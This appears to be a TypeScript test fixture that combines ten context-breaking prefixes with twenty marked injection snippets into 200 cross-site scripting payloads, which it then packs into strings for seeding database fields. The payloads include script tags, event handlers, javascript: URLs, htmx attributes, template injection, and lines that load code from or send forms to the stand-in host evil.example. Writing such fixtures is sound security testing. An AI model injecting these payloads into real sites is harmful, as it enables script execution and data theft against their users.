/** Ways out of where a text may stand: an element, an attribute, a title, a comment, a script … */
const exits = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '-->',
  '</select></datalist>',
  ']]>',
  '</style>',
]

/** What acts if it becomes an element; each is marked, so that one look finds it. */
const elements = [
  '<script data-evil>alert(1)</script>',
  '<script data-evil src=//evil.example/x.js></script>',
  '<img data-evil src=x onerror=alert(1)>',
  '<svg data-evil onload=alert(1)><animate onbegin=alert(1) onrepeat=alert(1)>',
  '<details data-evil open ontoggle=alert(1)>x',
  '<button data-evil hx-get="/sign-in" hx-trigger="load" hx-target="body">',
  '<div data-evil hx-on:load="alert(1)" hx-vals="js:{x:alert(1)}">',
  '<hx-partial data-evil hx-target="body">',
  '<a data-evil href="javascript:alert(1)" style="position:fixed;inset:0">',
  '<iframe data-evil srcdoc="<script>alert(1)</script>">',
  '<style data-evil>*{background:url(//evil.example)}</style>',
  '<base data-evil href="//evil.example/">',
  '<meta data-evil http-equiv=refresh content="0;url=//evil.example">',
  '<form data-evil action="//evil.example"><input name=code autofocus onfocus=alert(1)>',
  '<object data-evil data="data:text/html,<script>alert(1)</script>">',
  '<link data-evil rel=stylesheet href=//evil.example/x.css>',
  '<video data-evil><source onerror=alert(1)>',
  '<math data-evil><mi xlink:href="javascript:alert(1)">',
  '" autofocus onfocus=alert(1) style="x" hx-get="/x" data-evil x="',
  '{{constructor.constructor("alert(1)")()}}<% data-evil %>',
]

/** 200 texts that would be a program if anything took them for more than text. */
export const payloads = exits.flatMap((exit) => elements.map((element) => exit + element))

/** A tenth of them in one text, for fields of any length in the database. */
export function payloadText(n: number): string {
  const chunk = n % 10
  return `文${n} ${payloads.slice(chunk * 20, chunk * 20 + 20).join(' ')}`
}
